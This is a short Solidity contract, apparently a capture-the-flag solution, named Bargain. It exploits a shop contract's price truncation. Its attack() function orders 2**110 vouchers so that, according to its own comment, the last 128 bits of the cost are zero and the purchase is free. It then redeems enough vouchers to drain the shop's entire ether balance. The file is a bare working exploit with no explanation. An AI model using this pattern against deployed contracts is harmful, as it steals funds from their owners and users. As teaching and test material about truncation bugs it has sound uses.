// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IShop {
    function buy(uint256 quantity) external payable;
    function redeem(uint256 quantity) external;
}

// #region contract
/// Orders so many vouchers that the last 128 bits of the cost are zero, and redeems some of them.
contract Bargain {
    IShop private immutable shop;

    constructor(IShop target) {
        shop = target;
    }

    function attack() external {
        shop.buy(2 ** 110);
        shop.redeem(address(shop).balance / 1 ether);
    }

    receive() external payable {}
}
// #endregion contract
